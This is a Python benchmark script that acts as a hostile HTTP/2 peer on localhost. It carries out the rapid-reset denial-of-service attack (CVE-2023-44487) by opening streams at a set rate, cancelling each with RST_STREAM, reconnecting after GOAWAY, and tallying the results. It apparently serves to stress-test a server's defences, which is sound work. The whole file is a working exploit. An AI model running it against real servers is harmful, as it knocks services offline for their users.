"""A hostile peer over HTTP/2: it begins requests at a fixed rate and gives each up (rapid reset, CVE-2023-44487).

    python benchmarks/resets.py '{"port": 8080, "rate": 10000, "behind": 0, "seed": 1}'

Requests are the calls of `calls.py`, but whole with their head, so that who believes them passes them on. Each is reset
in the next frame, or when so many others have begun (`behind`), so that a server may have begun to work on it.

There is one connection at a time. When the server ends it, by GOAWAY with an error or by closing it, another is opened
at once, and what has become due meanwhile is sent on that; it waits also while the server does not read. Nothing else
is read of what the server says than SETTINGS, PING and GOAWAY.

Goes on until its input ends; prints `BEGUN` when the first connection is open, and in the end one object of JSON:
`seconds`, `cpu_s` of this program, `begun` requests and `resets` that were sent, `connections` that were opened,
`failed` ones that were not, `taken`, the requests that the server took in by the last stream of its GOAWAY (of
connections that ended without one none), and `ends`, how many connections ended with which code of GOAWAY, or was
`closed` or `reset` without; the last was `left`.

All octets of a connection are made before, the same for each: this program writes once in a millisecond or two, and
takes little of a core that it shares with a load.
"""

from __future__ import annotations

import json
import os
import select
import socket
import sys
import time
from typing import TypedDict

import wire
from calls import blocks_of_users

PERIOD_NS = 1_000_000  # between two writes
MOST = 50_000  # requests of one connection; one that takes all of them is closed, and the next opened
CANCEL = (8).to_bytes(4, "big")
DIFFERENT = 500  # calls, in turn
READ_BYTES = 64 << 10
CONNECTED_WITHIN_S = 1.0  # for a server that accepts nobody at the moment


class Order(TypedDict):
    """What is asked of this program."""

    port: int
    rate: float
    behind: int
    seed: int


def conversation(seed: int, count: int, behind: int) -> tuple[bytes, list[int]]:
    """The octets of one connection, and where in them each request, with what is reset behind it, ends."""
    learning, later = blocks_of_users(seed)
    out, ends = [wire.PREFACE + wire.settings(max_streams=0)], list[int]()
    size = len(out[0])
    for number in range(count):
        block = later[number % DIFFERENT] if number else learning
        out.append(wire.frame(wire.HEADERS, wire.END_HEADERS | wire.END_STREAM, 2 * number + 1, block))
        size += len(out[-1])
        if number >= behind:
            out.append(wire.frame(wire.RST_STREAM, 0, 2 * (number - behind) + 1, CANCEL))
            size += len(out[-1])
        ends.append(size)
    return b"".join(out), ends


class Peer:
    """The attack, and what it has come to."""

    def __init__(self, order: Order) -> None:
        self._address = "127.0.0.1", order["port"]
        self._behind = order["behind"]
        self._period_ns = 1e9 / order["rate"]
        octets, self._ends_at = conversation(order["seed"], MOST, order["behind"])
        self._octets = memoryview(octets)
        self._poll = select.poll()
        self._poll.register(sys.stdin, select.POLLIN)
        self._socket: socket.socket | None = None
        self._at = 0  # octets that were sent on this connection
        self._done = 0  # requests of it that were sent whole
        self._rest = b""
        self._owed = b""  # acknowledgements
        self._begun = self._resets = self._taken = self._connections = self._failed = 0
        self._ends: dict[str, int] = {}

    def run(self) -> dict[str, object]:
        """Attack until the input ends."""
        self._open()
        print("BEGUN", flush=True)
        began_ns = tick_ns = time.monotonic_ns()
        while True:
            tick_ns = max(tick_ns + PERIOD_NS, time.monotonic_ns())
            if not self._wait_until(tick_ns):
                break
            if self._socket is None:
                self._open()
            if self._socket is not None:
                self._send(int((time.monotonic_ns() - began_ns) / self._period_ns))
        seconds = (time.monotonic_ns() - began_ns) / 1e9
        if self._socket is not None:
            self._close("left")
        return {
            "seconds": seconds,
            "cpu_s": sum(os.times()[:2]),
            "begun": self._begun,
            "resets": self._resets,
            "taken": self._taken,
            "connections": self._connections,
            "failed": self._failed,
            "ends": self._ends,
        }

    def _wait_until(self, tick_ns: int) -> bool:
        """Read what comes until then; false once the input has ended."""
        while (left_ns := tick_ns - time.monotonic_ns()) > 0:
            for descriptor, _ in self._poll.poll(left_ns / 1e6):
                if descriptor == sys.stdin.fileno():
                    return False
                self._read()
                if self._socket is None:
                    self._open()
        return True

    def _open(self) -> None:
        try:
            opened = socket.create_connection(self._address, timeout=CONNECTED_WITHIN_S)
        except OSError:
            self._failed += 1
            return
        opened.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        opened.setblocking(False)
        self._poll.register(opened, select.POLLIN)
        self._socket, self._at, self._done = opened, 0, 0
        self._rest = self._owed = b""
        self._connections += 1

    def _send(self, due: int) -> None:
        """As many as are due on this connection, as far as the server reads."""
        assert self._socket is not None
        wanted = min(self._done + due - self._begun, MOST)
        if wanted <= self._done:
            return
        try:
            if self._owed and self._done and self._ends_at[self._done - 1] == self._at:  # not within a frame
                self._socket.send(self._owed)
                self._owed = b""
            self._at += self._socket.send(self._octets[self._at : self._ends_at[wanted - 1]])
        except BlockingIOError:
            return
        except OSError:
            self._close("reset")
            return
        while self._done < wanted and self._ends_at[self._done] <= self._at:
            self._done += 1
            self._begun += 1
        if self._done == MOST:
            self._taken += MOST
            self._close("used up")

    def _read(self) -> None:
        assert self._socket is not None
        try:
            data = self._socket.recv(READ_BYTES)
        except BlockingIOError:
            return
        except OSError:
            self._close("reset")
            return
        if not data:
            self._close("closed")
            return
        data = self._rest + data
        at, size = 0, len(data)
        while size - at >= 9:
            high, low, kind, flags, _ = wire.FRAME.unpack_from(data, at)
            length = high << 8 | low
            if size - at - 9 < length:
                break
            at += 9 + length
            payload = data[at - length : at]
            if kind in (wire.SETTINGS, wire.PING) and not flags & wire.ACK:
                self._owed += wire.frame(kind, wire.ACK, 0, payload if kind == wire.PING else b"")
            elif kind == wire.GOAWAY and (code := int.from_bytes(payload[4:8], "big")):
                self._taken += (int.from_bytes(payload[:4], "big") + 1) // 2
                self._close(f"{code}")
                return
        self._rest = data[at:]

    def _close(self, why: str) -> None:
        assert self._socket is not None
        self._poll.unregister(self._socket)
        self._socket.close()
        self._socket = None
        self._resets += max(0, self._done - self._behind)
        self._ends[why] = self._ends.get(why, 0) + 1


def main(order: Order) -> None:
    """Carry out the order."""
    print(json.dumps(Peer(order).run()))


if __name__ == "__main__":
    main(json.loads(sys.argv[1]))
